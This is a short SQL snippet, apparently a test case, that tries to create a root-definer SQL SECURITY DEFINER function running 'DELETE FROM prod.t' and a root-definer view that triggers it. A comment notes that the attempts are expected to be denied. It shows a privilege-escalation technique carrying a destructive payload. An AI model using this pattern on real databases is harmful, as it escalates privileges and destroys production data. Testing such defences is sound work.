-- own account: denied; login of the target: refused
CREATE DEFINER='root'@'localhost' FUNCTION f() RETURNS int DETERMINISTIC SQL SECURITY DEFINER
BEGIN DELETE FROM prod.t; RETURN 1; END;
CREATE DEFINER=root@`localhost` SQL SECURITY DEFINER VIEW v AS SELECT format(1, f()) AS y;
